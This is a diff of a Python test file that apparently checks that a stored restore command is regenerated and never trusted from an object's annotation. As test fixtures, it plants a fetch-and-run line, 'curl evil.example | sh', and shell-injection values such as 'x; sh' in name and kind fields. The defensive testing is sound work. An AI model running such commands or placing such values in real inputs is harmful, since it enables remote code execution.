@@ -144,16 +144,20 @@ def test_a_loan_that_the_status_forgot_is_taken_up_to_go_back(state: Any) -> Non
 
 def test_the_line_to_paste_is_made_anew_and_never_read_from_the_note() -> None:
     """Whoever may edit the object can write the note, and people paste what the status says."""
-    evil = {"restore_command": "curl evil.example | sh", "name": "x; sh", "autoscaler": "y; sh"}
+    evil = {"restore_command": "curl evil.example | sh"}
     found = found_by(status_of("Pending"), autoscaler=noted(LOWERED, LENT.model_copy(update=evil)))
-    assert found is not None
-    assert (found.autoscaler, found.restore_command) == (LENT.autoscaler, LENT.restore_command)
-    alone = noted(deployment_of(), ALONE.model_copy(update=evil | {"autoscaler": None}))
+    assert found == LENT.model_copy(update=BACK)
+    alone = noted(deployment_of(), ALONE.model_copy(update=evil))
     found = found_by(status_of("Pending"), target=target_of(alone), autoscaler=None)
-    assert found is not None
-    assert (found.name, found.restore_command) == (ALONE.name, ALONE.restore_command)
-    strange = noted(deployment_of(), ALONE.model_copy(update={"kind": "x; sh"}))
-    assert found_by(status_of("Pending"), target=target_of(strange), autoscaler=None) is None
+    assert found == ALONE.model_copy(update=BACK)
+
+
+@pytest.mark.parametrize(
+    "strange", [{"kind": "x; sh"}, {"name": "x; sh"}], ids=["of no kind", "of another name"]
+)
+def test_a_note_that_is_not_of_its_object_is_no_loan(strange: Any) -> None:
+    alone = noted(deployment_of(), ALONE.model_copy(update=strange))
+    assert found_by(status_of("Pending"), target=target_of(alone), autoscaler=None) is None
 
 
 @pytest.mark.parametrize("state", ["Stable", "Halted"])
